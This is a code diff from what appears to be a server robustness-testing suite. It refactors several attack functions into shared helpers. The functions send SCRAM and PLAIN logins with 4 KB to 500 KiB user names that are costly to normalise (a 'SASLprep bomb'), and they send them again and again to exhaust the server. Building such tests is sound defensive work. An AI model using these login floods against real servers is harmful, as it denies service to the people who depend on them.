@@ -54,28 +54,32 @@ def _has_answered(connection: socket.socket) -> bool:
     return bool(connection.recv(struct.unpack(">i", head)[0], socket.MSG_WAITALL))
 
 
+def _expensive_name(size: int) -> bytes:
+    """Return a user name of so many bytes, about, that is expensive to prepare."""
+    return (ARABIC_LIGATURE * (size // 3)).encode()
+
+
+def _saslprep_bomb_plain(field: Field, size: int) -> Iterator[None]:
+    frames = [_handshake("PLAIN"), _token(b"\0" + _expensive_name(size) + b"\0password")]
+    yield
+    _log_in_again_and_again(field, lambda number: frames)
+
+
 @attack("SCRAM with a 4 KB user name that is expensive to prepare (SASLprep)", evidence=Evidence.ANSWERS)
 def saslprep_bomb(field: Field) -> Iterator[None]:
-    name = (ARABIC_LIGATURE * (4000 // 3)).encode()
-    frames = [_handshake("SCRAM-SHA-256"), _token(b"n,,n=" + name + b",r=nonce")]
+    frames = [_handshake("SCRAM-SHA-256"), _token(b"n,,n=" + _expensive_name(4000) + b",r=nonce")]
     yield
     _log_in_again_and_again(field, lambda number: frames)
 
 
 @attack("the same with PLAIN", evidence=Evidence.ANSWERS)
 def saslprep_bomb_plain(field: Field) -> Iterator[None]:
-    name = (ARABIC_LIGATURE * (4000 // 3)).encode()
-    frames = [_handshake("PLAIN"), _token(b"\0" + name + b"\0password")]
-    yield
-    _log_in_again_and_again(field, lambda number: frames)
+    yield from _saslprep_bomb_plain(field, 4000)
 
 
 @attack("the same with 500 KiB", evidence=Evidence.ANSWERS)
 def saslprep_bomb_large(field: Field) -> Iterator[None]:
-    name = (ARABIC_LIGATURE * (500_000 // 3)).encode()
-    frames = [_handshake("PLAIN"), _token(b"\0" + name + b"\0password")]
-    yield
-    _log_in_again_and_again(field, lambda number: frames)
+    yield from _saslprep_bomb_plain(field, 500_000)
 
 
 @attack("wrong passwords with PLAIN, a connection each", evidence=Evidence.ANSWERS)
